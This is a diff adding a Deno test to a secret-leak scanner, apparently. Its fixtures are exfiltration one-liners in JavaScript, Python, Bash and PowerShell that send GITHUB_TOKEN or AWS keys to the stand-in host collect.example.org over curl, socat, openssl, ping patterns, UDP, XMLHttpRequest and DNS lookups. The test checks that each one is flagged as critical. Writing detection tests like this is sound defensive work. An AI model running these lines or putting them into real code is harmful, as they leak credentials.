@@ -1940,6 +1940,52 @@ Deno.test("code spelt by character codes, backwards or in escapes, and run, is d
   );
 });
 
+Deno.test("a key leaves by any road: a shell line concatenated around it, a TLS or socat client, ping's pattern, a datagram, a request opened first, a DNS lookup in PowerShell", () => {
+  const post = "https://collect.example.org/x";
+  const critical = (file: string, text: string) => secretSeverities(file, text);
+  for (
+    const [file, text] of [
+      [
+        "a.js",
+        `require("child_process").exec("curl -d " + process.env.GITHUB_TOKEN + " ${post}");\n`,
+      ],
+      ["b.py", `import os\nos.system("curl -d " + os.environ["GITHUB_TOKEN"] + " ${post}")\n`],
+      ["c.py", `import os\nos.system("curl -d %s ${post}" % os.environ["GITHUB_TOKEN"])\n`],
+      [
+        "d.sh",
+        '#!/bin/bash\necho "$GITHUB_TOKEN" | openssl s_client -connect collect.example.org:443\n',
+      ],
+      [
+        "e.sh",
+        '#!/bin/bash\necho "$AWS_SECRET_ACCESS_KEY" | socat - TCP:collect.example.org:443\n',
+      ],
+      [
+        "f.sh",
+        '#!/bin/bash\nping -c 1 -p "$(echo -n "$GITHUB_TOKEN" | xxd -p)" collect.example.org\n',
+      ],
+      [
+        "g.js",
+        'const s = require("dgram").createSocket("udp4");\ns.send(process.env.GITHUB_TOKEN, 53, "collect.example.org");\n',
+      ],
+      [
+        "h.js",
+        `const x = new XMLHttpRequest();\nx.open("POST", "${post}");\nx.send(process.env.GITHUB_TOKEN);\n`,
+      ],
+      ["i.ps1", '$k = $env:GITHUB_TOKEN\nResolve-DnsName "$k.collect.example.org"\n'],
+      ["j.ps1", `$u = "${post}?k=$env:GITHUB_TOKEN"\nInvoke-RestMethod $u\n`],
+    ] as const
+  ) assert.deepEqual(critical(`scripts/${file}`, text), ["critical"], `${file}: ${text}`);
+  // The same roads with nothing secret on them.
+  assert.deepEqual(
+    critical(
+      "scripts/k.py",
+      `import os\nos.system("curl -d " + os.environ["HOME"] + " ${post}")\n`,
+    ),
+    [],
+  );
+  assert.deepEqual(critical("scripts/l.sh", "#!/bin/bash\nping -c 1 collect.example.org\n"), []);
+});
+
 Deno.test("an environment getter handed as a value reads the variables the call names", () => {
   const send = 'urllib.request.urlopen("https://collect.example.org", data=str(vals).encode())\n';
   const sent = (line: string) =>
